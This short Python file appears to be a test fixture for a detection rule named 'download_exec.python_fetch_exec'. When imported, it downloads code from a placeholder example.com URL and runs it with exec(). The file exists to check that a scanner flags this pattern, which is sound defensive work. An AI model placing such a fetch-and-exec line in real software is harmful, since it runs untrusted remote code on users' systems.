"""Fetches code at import time and runs it (test fixture, never run)."""
import urllib.request

URL = "https://example.com/patch.py"

# ruleid: yara.download_exec.python_fetch_exec
exec(urllib.request.urlopen(URL).read().decode("utf-8"))
